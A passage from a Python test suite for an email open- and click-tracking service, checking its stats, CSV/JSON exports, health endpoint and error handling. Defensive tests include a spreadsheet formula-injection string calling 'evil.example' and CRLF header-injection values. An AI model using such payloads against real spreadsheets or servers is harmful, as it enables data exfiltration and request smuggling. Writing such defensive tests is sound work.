            stats = tracker.read_stats(connection, stage.acme.number, tracker.read_period("7d", zone, NOW, None))
        steps = zip(stats.period.starts, stats.steps, strict=True)
        counts = [(start, sum(step[tracker.OPEN].values())) for start, step in steps]
        days = ((datetime.fromtimestamp(at / 1000, stats.period.zone), count) for at, count in counts)
        return {day.strftime("%d"): count for day, count in days if count}

    assert opens_a_day("Asia/Kolkata") == {"19": 1, "20": 2}
    assert opens_a_day("UTC") == {"19": 3}
    assert opens_a_day("Europe/Rome") == {"19": 3}


# -- Numbers and exports


def test_stats_json_has_the_numbers_of_the_dashboard(stage: Stage) -> None:
    numbers = get(mailing(stage), f"/{stage.acme.id}/stats.json?range=24h").json
    assert len(numbers.pop("steps")) == 24
    assert numbers.pop("last_hit_at").endswith("Z")
    period = numbers.pop("range")
    assert (period["name"], period["tz"]) == ("24h", "UTC")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:00:00\.000Z", period["from"])
    nothing = {"person": 0, "unconfirmed": 0, "machine": 0}
    assert numbers == {
        "tenant": "Acme",
        "before": {
            "sent": {"emails": 0, "opened": nothing, "clicked": nothing, "clicked_without_open": 0},
            "opens": {**nothing, "set_aside": 0},
            "clicks": {**nothing, "set_aside": 0},
        },
        "sent": {
            "emails": 4,
            "opened": {"person": 1, "unconfirmed": 1, "machine": 1},
            "clicked": {"person": 1, "unconfirmed": 0, "machine": 1},
            "clicked_without_open": 0,
            "open_rate": [0.25, 0.5],
            "click_rate": [0.25, 0.25],
        },
        "unregistered": {
            "emails": 1,
            "opened": {"person": 1, "unconfirmed": 0, "machine": 0},
            "clicked": {"person": 0, "unconfirmed": 0, "machine": 0},
            "clicked_without_open": 0,
        },
        "activity": {
            "opens": {
                "hits": {"person": 3, "unconfirmed": 1, "machine": 1, "set_aside": 0},
                "emails": {"person": 2, "unconfirmed": 1, "machine": 1},
            },
            "clicks": {
                "hits": {"person": 1, "unconfirmed": 0, "machine": 1, "set_aside": 1},
                "emails": {"person": 1, "unconfirmed": 0, "machine": 1},
            },
        },
        "reasons": [
            {"event_type": kind, "verdict": verdict, "reason": reason, "counts_as": state, "hits": number}
            for kind, verdict, reason, state, number in (
                ("open", "human", "browser", "person", 3),
                ("open", "bot", "bot-word", "machine", 1),
                ("open", "prefetch", "apple-mpp", "unconfirmed", 1),
                ("click", "human", "browser", "person", 1),
                ("click", "human", "destination-not-allowed", "set_aside", 1),
                ("click", "scanner", "head", "machine", 1),
            )
        ],
        "naming_page": [{"host": "elsewhere.example", "reason": "destination-not-allowed", "clicks": 1}],
        "dropped": {},
        "waiting_hits": 0,
    }


def test_without_mail_a_rate_is_null_and_not_zero(stage: Stage) -> None:
    numbers = get(stage, f"/{stage.acme.id}/stats.json").json
    assert (numbers["sent"]["open_rate"], numbers["last_hit_at"]) == (None, None)


def read_csv(answer: Answer) -> list[list[str]]:
    """The records of a CSV that keeps to RFC 4180: CRLF after each, as many fields in each, quotes where needed."""
    assert answer.status == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    text = answer.body.decode("utf-8")
    assert text.endswith("\r\n")
    records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(record) for record in records}) == 1
    field = r'(?:"(?:[^"]|"")*"|[^",\r\n]*)'
    assert re.fullmatch(rf"(?:{field}(?:,{field})*\r\n)+", text)
    return records


TABLE_FIELDS = {"emails": tracker.EMAILS.fields, "events": tracker.EVENTS.fields, "links": tracker.LINKS.fields}


@pytest.mark.parametrize("table", list(TABLE_FIELDS))
def test_an_export_has_exactly_the_fields_of_the_contract_in_json_and_csv(stage: Stage, table: str) -> None:
    mailing(stage)
    answer = get(stage, f"/{stage.acme.id}/{table}.json")
    assert answer["Content-Disposition"] == f'attachment; filename="{table}.json"'
    rows = answer.json["rows"]
    assert list(answer.json) == ["rows", "next"]
    assert len(rows) == {"emails": 5, "events": 8, "links": 1}[table]
    assert {tuple(row) for row in rows} == {TABLE_FIELDS[table]}
    header, *records = read_csv(get(stage, f"/{stage.acme.id}/{table}.csv"))
    assert header == [*TABLE_FIELDS[table], "next"]
    # Two forms of the same: what is null in JSON is empty in CSV.
    assert records == [
        ["" if value is None else str(value + 0 if isinstance(value, bool) else value) for value in row.values()] + [""]
        for row in rows
    ]


def test_the_rows_of_an_export_say_what_happened(stage: Stage) -> None:
    now = tracker.now_ms() // 1000 * 1000
    register(stage, stage.acme, tracker.Registration("e1", "Hello", "reader@example.org", "spring"), at=now - 5000)
    segment(
        stage,
        hit(stage, "e1", now - 4000, ip="203.0.113.0"),
        click(stage, "e1", "https://acme.com/a?b=1", now - 3000, method="HEAD", ip=""),
    )
    stamp = [tracker.iso_time(now - 1000 * n) for n in range(6)]
    root = f"/{stage.acme.id}"
    assert get(stage, f"{root}/emails.json").json["rows"] == [
        {
            "key": "e1", "subject": "Hello", "recipient": "reader@example.org", "campaign": "spring",
            "registered": 1, "created_at": stamp[5], "sent_at": stamp[5],
            "opens_person": 1, "opens_unconfirmed": 0, "opens_machine": 0, "opened_as": "person", "opened_at": stamp[4],
            "clicks_person": 0, "clicks_unconfirmed": 0, "clicks_machine": 1, "clicked_as": "machine", "clicked_at": stamp[3],
        }
    ]  # fmt: skip
    assert get(stage, f"{root}/events.json").json["rows"] == [
        {
            "key": "e1", "event_type": "click", "timestamp": stamp[3], "method": "HEAD", "verdict": "scanner", "reason": "head",
            "url": "https://acme.com/a?b=1", "user_agent": CHROME, "ip_address": None,
        },
        {
            "key": "e1", "event_type": "open", "timestamp": stamp[4], "method": "GET", "verdict": "human", "reason": "browser",
            "url": None, "user_agent": CHROME, "ip_address": "203.0.113.0",
        },
    ]  # fmt: skip
    assert get(stage, f"{root}/links.json").json["rows"] == [
        {
            "url": "https://acme.com/a?b=1", "clicks_person": 0, "clicks_unconfirmed": 0, "clicks_machine": 1,
            "emails_person": 0, "emails_unconfirmed": 0, "emails_machine": 1,
        }
    ]  # fmt: skip


# -- What is said later of an email


def patch(stage: Stage, key: str, said: object, tenant: tracker.Tenant | None = None) -> Answer:
    return call(stage, "PATCH", f"/{(tenant or stage.acme).id}/emails/{key}", json.dumps(said).encode())


def consistent(stage: Stage) -> dict[str, Any]:
    """The numbers of Acme, which a recount gives too."""
    numbers: dict[str, Any] = get(stage, f"/{stage.acme.id}/stats.json?range=all").json
    assert stage.check() == []
    return numbers


def judged(stage: Stage) -> list[tuple[Any, ...]]:
    return stage.rows("select event_type, verdict, reason from event_details order by at, event_type desc")


def test_what_is_said_of_an_email_later_replaces_that_and_nothing_else(stage: Stage) -> None:
    first = tracker.Registration("e1", "Hello", "reader@example.org", "spring")
    register(stage, stage.acme, first, at=NOW)
    answer = patch(stage, "e1", {"campaign": " autumn ", "sent_at": "2026-11-24T12:00:00+01:00"})
    assert (answer.status, answer.json) == (200, {"changed": "e1"})
    assert patch(stage, "e1", {}).status == 200
    (row,) = get(stage, f"/{stage.acme.id}/emails.json").json["rows"]
    told = [row[name] for name in ("subject", "recipient", "campaign", "registered", "created_at", "sent_at")]
    assert told == ["Hello", "reader@example.org", "autumn", 1, tracker.iso_time(NOW), "2026-11-24T11:00:00.000Z"]
    assert stage.rows("select time_said, delivered_at from emails") == [(1, None)]
    assert patch(stage, "e1", {"subject": "", "delivered_at": "2026-11-24T12:00:01+01:00"}).status == 200
    said = "select subject, recipient, sent_at - delivered_at from emails"
    assert stage.rows(said) == [("", "reader@example.org", -1_000)]
    assert consistent(stage)["sent"]["emails"] == 1


@pytest.mark.parametrize("key", ["nobody", "unregistered", "waiting", "theirs", "a%20b"])
def test_nothing_is_said_of_an_email_that_nobody_registered(stage: Stage, key: str) -> None:
    register(stage, stage.globex, tracker.Registration("theirs"))
    segment(stage, hit(stage, "unregistered"), click(stage, "unregistered"))
    stage.drain()
    stage.pixel("waiting")  # a hit that is not counted yet makes no email of it either
    told = assert_error(patch(stage, key, {"subject": "Hello", "delivered_at": DELIVERED_AT}), 404)
    assert told == "There is no such email."
    stage.drain()
    emails = stage.rows("select key, registered, subject, delivered_at from emails where tenant = 1 order by key")
    assert emails == [(key, 0, "", None) for key in ("unregistered", "waiting")]
    assert consistent(stage)["unregistered"]["emails"] == 2


@pytest.mark.parametrize("name", ["sent_at", "delivered_at"])
@pytest.mark.parametrize(
    "value",
    ["yesterday", "2026-11-24", "2026-11-24T12:00:00", "2026-02-30T12:00:00Z", "1969-01-01T00:00:00Z", "9999-12-31T23:59:59Z",
     "1795544485", 1795544485, None, ["2026-11-24T12:00:00Z"], "2026-11-24T12:00:00Z" + " " * 30, "\x00"],
)  # fmt: skip
def test_a_time_that_is_none_is_refused_by_the_name_of_its_field(stage: Stage, name: str, value: object) -> None:
    before = everything(cast(stage))
    # Whichever way it is said; and what else is said with it is not done either.
    said = {"subject": "Hello", name: value}
    for answer, where in (
        (patch(stage, "mail-of-acme", said), ""),
        (call(stage, "POST", f"/{stage.acme.id}/emails", json.dumps({"key": "new", **said}).encode()), ""),
        (call(stage, "POST", f"/{stage.acme.id}/emails", json.dumps([{"key": "new"}, said]).encode()), "[1]."),
    ):
        told = assert_error(answer, 400)
        assert told.startswith(f"{where}{name}: expected "), told
    assert everything(stage) == before


def test_what_can_not_be_said_of_an_email_is_refused_by_its_name(stage: Stage) -> None:
    before = everything(cast(stage))
    for said, told in (
        ({"key": "other"}, "key"),
        ({"links": []}, "links"),
        ({"opened": True}, "opened"),
        ({"subject": 1}, "subject: expected text"),
        ({"campaign": "x" * 201}, "campaign: expected at most 200 characters, got 201"),
        ([], "expected"),
    ):
        assert told in assert_error(patch(stage, "mail-of-acme", said), 400)
    assert everything(stage) == before


@pytest.mark.parametrize("drained", [True, False], ids=["counted", "waiting"])
@pytest.mark.parametrize("clicked", ["machine", "person"])
def test_a_time_of_delivery_makes_a_click_a_second_later_a_scanners(stage: Stage, drained: bool, clicked: str) -> None:
    register(stage, stage.acme, tracker.Registration("e1", campaign="spring"), at=NOW - DAY)
    segment(stage, hit(stage, "e1", NOW), click(stage, "e1", at=NOW + 1_000), click(stage, "e2", at=NOW + 1_000))
    if clicked == "person":  # a minute later she clicked too
        segment(stage, click(stage, "e1", at=NOW + 60_000))
    if drained:
        assert consistent(stage)["sent"]["clicked"] == {"person": 1, "unconfirmed": 0, "machine": 0}
    assert patch(stage, "e1", {"delivered_at": tracker.iso_time(NOW)}).status == 200
    numbers = consistent(stage)
    assert numbers["sent"]["clicked"] == {"person": 0, "unconfirmed": 0, "machine": 0} | {clicked: 1}
    assert numbers["unregistered"]["clicked"] == {"person": 1, "unconfirmed": 0, "machine": 0}
    too_soon = {"event_type": "click", "verdict": "scanner", "reason": "too-soon", "counts_as": "machine", "hits": 1}
    assert too_soon in numbers["reasons"]
    assert judged(stage)[:2] == [("open", "human", "browser"), ("click", "scanner", "too-soon")]
    # Later delivery takes that back: the click came before, so it tells nothing.
    assert patch(stage, "e1", {"delivered_at": tracker.iso_time(NOW + 1_001)}).status == 200
    assert consistent(stage)["sent"]["clicked"] == {"person": 1, "unconfirmed": 0, "machine": 0}
    assert judged(stage)[:2] == [("open", "human", "browser"), ("click", "human", "browser")]


def many_rows(stage: Stage) -> None:
    """20 emails, 20 opens of one moment, 20 links."""
    now = tracker.now_ms()
    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(20)), at=now - 1000)
    segment(stage, *(click(stage, f"e{n}", f"https://acme.com/{n}", now - 500) for n in range(20)))
    stage.drain()


@pytest.mark.parametrize("limit", [1, 7, 10, 19, 20, 21])
@pytest.mark.parametrize("table", list(TABLE_FIELDS))
def test_next_leads_through_all_rows_once(stage: Stage, table: str, limit: int) -> None:
    many_rows(stage)
    root = f"/{stage.acme.id}/{table}"
    whole = get(stage, f"{root}.json").json
    assert len(whole["rows"]) == 20
    assert whole["next"] is None
    rows: list[dict[str, Any]] = []
    records: list[list[str]] = []
    query = f"?limit={limit}"
    for _ in range(-(-20 // limit)):
        answer = get(stage, f"{root}.json{query}").json
        _, *more = read_csv(get(stage, f"{root}.csv{query}"))
        assert len(answer["rows"]) == len(more) <= limit
        assert [record[-1] for record in more[:-1]] == [""] * (len(more) - 1)
        assert more[-1][-1] == (answer["next"] or "")  # the last record says where to go on
        rows += answer["rows"]
        records += more
        query = f"?limit={limit}&after={answer['next']}"
    assert answer["next"] is None
    assert rows == whole["rows"]
    assert [record[0] for record in records] == [next(iter(row.values())) for row in whole["rows"]]


def test_an_export_of_more_rows_than_one_reading_is_whole(stage: Stage) -> None:
    count = 2 * tracker.CHUNK_ROWS + 1
    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(count)))
    keys = [f"e{n}" for n in range(count - 1, -1, -1)]
    assert [row["key"] for row in get(stage, f"/{stage.acme.id}/emails.json").json["rows"]] == keys
    assert [record[0] for record in read_csv(get(stage, f"/{stage.acme.id}/emails.csv"))[1:]] == keys
    part = get(stage, f"/{stage.acme.id}/emails.json?limit={tracker.CHUNK_ROWS}").json
    assert len(part["rows"]) == tracker.CHUNK_ROWS
    assert part["next"] is not None


@pytest.mark.parametrize("table", list(TABLE_FIELDS))
def test_an_export_of_nothing_is_an_empty_table(stage: Stage, table: str) -> None:
    assert get(stage, f"/{stage.acme.id}/{table}.json").json == {"rows": [], "next": None}
    assert read_csv(get(stage, f"/{stage.acme.id}/{table}.csv")) == [[*TABLE_FIELDS[table], "next"]]


@pytest.mark.parametrize("limit", ["0", "-1", "100001", "1e3", "", "x", "%00", "²", "9" * 5000])
def test_a_limit_that_is_none_is_refused(still: Stage, limit: str) -> None:
    told = assert_error(get(still, f"/{still.acme.id}/emails.json?limit={limit}"), 400)
    assert told == "limit: expected a whole number from 1 to 100000"
    assert get(still, f"/{still.acme.id}/emails.json").status == 200  # and the lock is free


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_of_a_csv_runs_nothing_in_a_spreadsheet(stage: Stage, start: str) -> None:
    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    key = f"{start}1" if tracker.is_key(f"{start}1") else "e1"
    register(stage, stage.acme, tracker.Registration(key, text, text, text))
    segment(stage, hit(stage, key, ua=text))
    for table in ("emails", "events"):
        header, record = read_csv(get(stage, f"/{stage.acme.id}/{table}.csv"))
        assert sum(text in cell for cell in record) == {"emails": 3, "events": 1}[table]
        assert not [cell for cell in record if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert dict(zip(header, record, strict=True))["key"].removeprefix("'") == key
    # JSON is for programs: it holds what was written.
    assert get(stage, f"/{stage.acme.id}/emails.json").json["rows"][0]["subject"] == text


def test_quotes_commas_and_line_breaks_survive_a_csv(stage: Stage) -> None:
    text = 'one, "two"\r\nthree\nfour'
    register(stage, stage.acme, tracker.Registration("e1", text))
    header, record = read_csv(get(stage, f"/{stage.acme.id}/emails.csv"))
    assert dict(zip(header, record, strict=True))["subject"] == text


@contextlib.contextmanager
def unread(stage: Stage, target: str) -> Iterator[tuple[Any, io.StringIO]]:
    """An export whose body is there and not read; closed in the end as a server does."""
    environ = environ_of("GET", target)
    body = tracker.wsgi(stage.app)(environ, lambda status, headers, exc_info=None: lambda data: None)
    try:
        yield body, environ["wsgi.errors"]
    finally:
        body.close()  # type: ignore[attr-defined]


def test_one_export_runs_at_a_time(stage: Stage) -> None:
    many_rows(stage)
    exports = [param.values[0] for param in routes(tracker.READER) if param.values[0].handler is tracker.export]
    with unread(stage, f"/{stage.acme.id}/events.json") as (body, _):
        for _ in range(2):
            for route in exports:
                for tenant in (stage.acme, stage.globex):  # it is the server that is busy, not the tenant
                    answer = use(stage, route, tenant)
                    assert assert_error(answer, 503).startswith("Another export is running")
                    assert int(answer["Retry-After"]) > 0
            next(iter(body))  # and no sooner free when it is half read
        assert get(stage, f"/{stage.acme.id}/dashboard").status == 200
        assert stage.pixel("e1").headers["X-Tracker"] == "recorded"
    assert get(stage, f"/{stage.acme.id}/events.json").status == 200


def test_an_export_that_breaks_off_is_logged_without_the_private_url_and_frees_the_lock(stage: Stage) -> None:
    register(stage, stage.acme, *(tracker.Registration(f"e{n}") for n in range(2 * tracker.CHUNK_ROWS)))
    with unread(stage, f"/{stage.acme.id}/emails.json") as (body, errors):
        chunks = iter(body)
        next(chunks)
        # Cut off without an end, the JSON is seen to be incomplete: nobody takes a part for the whole.
        with database_away(stage), pytest.raises(OSError, match="broke off"):
            list(chunks)
    assert "Traceback" in errors.getvalue()
    assert stage.acme.id not in errors.getvalue()
    assert get(stage, f"/{stage.acme.id}/emails.json").status == 200


# -- Health, assets, and the rest of what anybody may ask for


def test_health_is_ok_when_all_is_well(stage: Stage) -> None:
    stage.pixel("e1")
    for target in ("/health", "/health?strict"):
        answer = get(stage, target)
        assert answer.status == 200
        told = answer.json
        assert (told.pop("status"), told.pop("why"), told.pop("rejected_lines")) == ("ok", [], 0)
        assert told.pop("version") == tracker.__version__
        assert isinstance(told.pop("waiting_hits"), int)
        assert told == {}


def degraded(stage: Stage) -> list[str]:
    """The reasons of /health, which is degraded, and says so to ?strict by its status; leaks nothing."""
    answer, strict = get(stage, "/health"), get(stage, "/health?strict")
    assert (answer.status, strict.status) == (200, 503)
    assert answer.body == strict.body
    assert answer.json["status"] == "degraded"
    secrets = [str(stage.folder), "/tracking.db"]
    secrets += [word for tenant in (stage.acme, stage.globex) for word in (tenant.id, tenant.mail_id, tenant.name)]
    assert not [word for word in secrets if word in answer.text]
    reasons: list[str] = answer.json["why"]
    return reasons


def test_health_says_when_the_database_is_gone(stage: Stage) -> None:
    for _ in range(2):  # before it was ever opened, and under an open connection
        with database_away(stage):
            (why,) = degraded(stage)
            assert why.startswith("database: no database")
        assert get(stage, "/health").json["status"] == "ok"


def test_health_says_when_the_database_is_another_one(stage: Stage, staged: Callable[..., Stage]) -> None:
    other = staged()
    other.app.close()
    with database_away(stage):
        (other.folder / "tracking.db").rename(stage.folder / "tracking.db")
        (why,) = degraded(stage)
        assert "do not belong together" in why
        assert get(stage, f"/{stage.acme.id}/dashboard").status == 503
        (stage.folder / "tracking.db").unlink()


def test_health_says_when_the_database_is_no_database(stage: Stage) -> None:
    with database_away(stage):
        (stage.folder / "tracking.db").write_bytes(b"not a database " * 1000)
        (why,) = degraded(stage)
        assert why.startswith("database: ")
        (stage.folder / "tracking.db").unlink()


def test_health_counts_lines_that_could_not_be_read(stage: Stage) -> None:
    segment(stage, b"not a hit\n", hit(stage, "e1"), b'{"t": 1}\n')
    stage.drain()
    assert degraded(stage) == ["spool: 2 lines could not be read and were put into spool/rejected"]
    assert get(stage, "/health").json["rejected_lines"] == 2


def test_health_says_when_the_spool_cannot_be_written_until_it_can(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    stage.spool.rename(stage.folder / "away")
    stage.pixel("e1")
    (stage.folder / "away").rename(stage.spool)
    (why,) = degraded(stage)
    assert "can't be written" in why
    assert "ingest" in why
    stage.app.spool._retry_at = 0.0  # a second has passed
    assert stage.pixel("e2").headers["X-Tracker"] == "recorded"
    assert get(stage, "/health").json["status"] == "ok"


def test_health_answers_when_spool_and_database_are_both_gone(stage: Stage, capsys: pytest.CaptureFixture[str]) -> None:
    with database_away(stage):
        stage.spool.rename(stage.folder / "away")
        stage.pixel("e1")
        assert [why.partition(":")[0] for why in degraded(stage)] == ["database", "spool"]
        (stage.folder / "away").rename(stage.spool)


def test_the_stylesheet_has_the_hash_of_its_content_in_its_name_and_is_kept_for_ever(stage: Stage) -> None:
    (path,) = [link for link in parse(get(stage, "/")).links if link.startswith("/assets/")]
    answer = get(stage, path)
    assert hashlib.sha256(answer.body).hexdigest()[:16] in path
    assert answer["Content-Type"] == "text/css; charset=utf-8"
    assert answer["Cache-Control"] == "public, max-age=31536000, immutable"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert not re.search(r"url\(|@import|//", re.sub(r"/\*.*?\*/", "", answer.text, flags=re.DOTALL))


def test_search_engines_are_kept_out(stage: Stage) -> None:
    answer = get(stage, "/robots.txt")
    assert answer["Content-Type"].startswith("text/plain")
    assert answer.text.split("\n")[:2] == ["User-agent: *", "Disallow: /"]


def test_the_icon_is_an_svg_without_scripts(stage: Stage) -> None:
    answer = get(stage, "/favicon.ico")
    assert answer["Content-Type"] == "image/svg+xml"
    assert answer.text.lstrip().startswith("<svg")
    assert "<script" not in answer.text


def test_the_home_page_says_in_one_sentence_what_this_host_is_and_whom_to_ask(stage: Stage) -> None:
    answer = get(stage, "/")
    assert_private(answer)
    page = parse(answer)
    assert "This host serves images and links in mail" in page.text
    assert "ask its sender" in page.text
    assert "Acme" not in page.text


# -- The unforeseen


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_the_unforeseen_is_a_bare_500_and_a_traceback_in_the_log_without_the_private_url(
    stage: Stage, monkeypatch: pytest.MonkeyPatch, method: str
) -> None:
    def broken(app: tracker.App, request: tracker.Request, tenant: tracker.Tenant) -> tracker.Response:
        raise ZeroDivisionError("a mistake of ours")

    monkeypatch.setattr(
        tracker, "ROUTES", (tracker.Route("GET", "/{id}/broken", broken, tracker.READER, tracker.as_page),)
    )
    answer = call(stage, method, f"/{stage.acme.id}/broken?recipient=reader@example.org", unforeseen=True)
    assert answer.status == 500
    assert_private(answer)
    assert b"mistake of ours" not in answer.body
    assert b"Traceback" not in answer.body
    assert "Traceback" in answer.errors
    assert "ZeroDivisionError: a mistake of ours" in answer.errors
    assert stage.acme.id not in answer.errors
    assert "reader@example.org" not in answer.errors
    assert call(stage, method, "/nothing").status == 404  # and it goes on


def test_a_header_with_a_line_break_never_leaves_the_server(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(app: tracker.App, request: tracker.Request) -> tracker.Response:
        return tracker.Response(200, [("Content-Type", "text/plain\r\nX-Evil: 1")], b"")

    monkeypatch.setattr(tracker, "ROUTES", (tracker.Route("GET", "/broken", broken, tracker.ANYONE, tracker.as_page),))
    with pytest.raises(ValueError, match="line break"):
        get(stage, "/broken")


@pytest.mark.parametrize("name", ["Host", "User-Agent", "Authorization", "X-Forwarded-For"])
def test_a_header_that_no_server_should_have_let_through_is_refused(stage: Stage, name: str) -> None:
    for junk in ("a\r\nX-Evil: 1", "a\nb", "a\0b"):
        assert_error(get(stage, f"/{stage.acme.mail_id}/pixel/e1.gif", {name: junk}), 400)
    assert spooled(stage) == []


# -- Tenants that workers do not know yet, or can't read about


def test_a_signed_link_of_a_tenant_that_workers_do_not_know_yet_redirects(stage: Stage) -> None:
    """tenants.json is looked at once a second; the signature proves that this server made the link."""
    stage.pixel("k1")
    with tracker.changing_tenants(stage.database) as connection:
        young = tracker.add_tenant(connection, "Young", NOW)
    path = tracker.click_path(stage.app.secrets[0], young.mail_id, "k1", "https://acme.com/")
    stage.app.directory._look_at = float("inf")
    assert stage.web.get(path, headers={"User-Agent": CHROME}).status_int == 302
    stage.drain()
    assert stage.rows("select verdict, reason from event_details where url is not null") == [("human", "browser")]


def test_an_app_that_is_older_than_its_database_learns_the_secret(tmp_path: Path) -> None:
    settings = tracker.load_settings(
        {"DATABASE_URL": f"sqlite:{tmp_path}/data/tracking.db", "BASE_URL": BASE}, os.devnull
    )
    app = tracker.App(settings)
    web = webtest.TestApp(tracker.wsgi(app))
    assert web.get("/health").json["status"] == "degraded"
    database = tracker.create_database(settings.database, tracker.resource("schema.sql").decode())
    with tracker.changing_tenants(database) as connection:
        acme = tracker.add_tenant(connection, "Acme", NOW)
    database.close()
    app.directory._look_at = 0.0
    made = web.post_json(f"/{acme.id}/emails", {"links": ["https://acme.com/"]}).json
    assert web.get(made["links"][0]["click_url"].removeprefix(BASE)).location == "https://acme.com/"
    app.close()


@pytest.mark.parametrize("text", ["[]", "null", '{"tenants": []}', '{"tenants": {"abc": {}}, "retired": []}', "{"])
def test_a_malformed_directory_of_tenants_stops_no_pixel_and_is_reported(text: str, stage: Stage) -> None:
    assert stage.pixel("k1").headers["X-Tracker"] == "recorded"
    (stage.folder / "tenants.json").write_text(text)
    stage.refresh()
    assert stage.pixel("k2").headers["X-Tracker"] == "recorded"
    stage.refresh()
    health = stage.web.get("/health").json
    assert health["status"] == "degraded" and any("tenants.json" in why for why in health["why"])


def test_the_advice_for_a_host_names_its_port_and_is_left_out_where_it_would_be_refused(stage: Stage) -> None:
    for n, url in enumerate(("https://acme.com:8443/", "http://intranet/")):
        stage.web.get(f"/{stage.acme.mail_id}/click/k{n}", params={"url": url}, headers={"User-Agent": CHROME})
    page = stage.web.get(f"/{stage.acme.id}/dashboard").text
    assert "--domain acme.com:8443`" in page
    assert "1 click to intranet met the naming page" in page and "--domain intranet" not in page
    assert stage.check() == []
